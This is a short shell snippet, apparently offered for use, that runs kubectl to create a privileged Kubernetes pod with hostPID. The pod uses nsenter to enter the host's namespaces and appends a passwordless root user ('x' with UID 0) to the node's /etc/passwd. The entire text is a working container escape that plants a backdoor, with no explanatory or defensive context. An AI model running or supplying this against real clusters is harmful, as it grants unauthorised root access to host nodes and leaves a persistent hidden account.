kubectl apply -f - <<'EOF'
apiVersion: v1
kind: Pod
metadata: {name: n}
spec:
  hostPID: true
  containers:
  - name: c
    image: alpine
    securityContext: {privileged: true}
    command: ["nsenter", "-t", "1", "-m", "-u", "--", "sh", "-c", "echo x::0:0::/:/bin/sh >> /etc/passwd"]
EOF
